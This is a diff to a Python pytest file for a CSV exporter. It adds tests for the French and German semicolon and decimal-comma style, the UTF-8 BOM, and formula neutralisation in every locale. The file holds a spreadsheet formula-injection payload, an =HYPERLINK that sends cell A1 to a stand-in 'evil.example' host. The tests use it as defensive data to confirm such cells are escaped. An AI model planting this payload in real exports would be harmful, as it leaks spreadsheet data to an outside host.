@@ -6,7 +6,7 @@ import io
 import pandas as pd
 import pytest
 
-from core.csv_export import frame_csv, neutralise, write_csv
+from core.csv_export import as_file, frame_csv, neutralise, style_for, write_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 
@@ -35,3 +35,48 @@ def test_frame_csv_matches_pandas_for_safe_values_and_neutralises_the_rest():
     assert rows == [["kpi", "value", "change"], ["booked", "3.0", "-0.125"], ["'@risk", "", "0.5"]]
     safe = frame.iloc[[0]]
     assert frame_csv(safe) == safe.to_csv(index=False, lineterminator="\n")
+
+
+# ---- Excel in France and Germany: BOM, `;`, decimal commas (SPEC §22) ----
+
+def _read_back(text: str, language: str) -> pd.DataFrame:
+    """What a spreadsheet gets: the file's bytes, read with the reader's conventions."""
+    data = io.BytesIO(as_file(text).encode("utf-8"))
+    style = style_for(language)
+    return pd.read_csv(data, sep=style.separator, decimal=style.decimal, encoding="utf-8", dtype={"name": str})
+
+
+@pytest.mark.parametrize("language", ["fr", "de", "fr-FR", "de_DE"])
+def test_french_and_german_csv_uses_semicolons_and_decimal_commas(language):
+    text = write_csv(["name", "ratio", "cents"], [["Chloé Dubois", -0.125, 3500], ["Jörg; Müller", "0.5", -3]],
+                     language=language)
+    assert text.splitlines()[0] == "name;ratio;cents"
+    assert text.splitlines()[1] == "Chloé Dubois;-0,125;3500"
+    frame = _read_back(text, language)
+    assert list(frame["name"]) == ["Chloé Dubois", "Jörg; Müller"]
+    assert list(frame["ratio"]) == [-0.125, 0.5]
+    assert list(frame["cents"]) == [3500, -3]
+
+
+def test_english_csv_keeps_commas_and_points():
+    text = write_csv(["name", "ratio"], [["Chloé", 0.25]], language="en")
+    assert text == "name,ratio\nChloé,0.25\n"
+    assert _read_back(text, "en").to_dict("records") == [{"name": "Chloé", "ratio": 0.25}]
+
+
+def test_the_file_starts_with_a_utf8_bom_once():
+    data = as_file(write_csv(["name"], [["Chloé"]])).encode("utf-8")
+    assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf")
+    assert "ChloÃ©" not in data.decode("utf-8-sig") and "Chloé" in data.decode("utf-8-sig")
+    assert as_file(as_file("a\n")) == "\ufeffa\n"
+    # pandas with the BOM-aware codec finds the header's first name intact
+    assert list(pd.read_csv(io.BytesIO(data), encoding="utf-8-sig").columns) == ["name"]
+
+
+@pytest.mark.parametrize("language", ["en", "fr", "de"])
+def test_formulas_stay_neutralised_in_every_style(language):
+    text = write_csv(["=evil", "n"], [[HYPERLINK, "-1.5"], ["@SUM(A1)", "+1"]], language=language)
+    frame = pd.read_csv(io.StringIO(text), sep=style_for(language).separator, dtype=str)
+    assert list(frame.columns) == ["'=evil", "n"]
+    assert list(frame["'=evil"]) == ["'" + HYPERLINK, "'@SUM(A1)"]
+    assert list(frame["n"]) == ["-1.5" if language == "en" else "-1,5", "+1"]
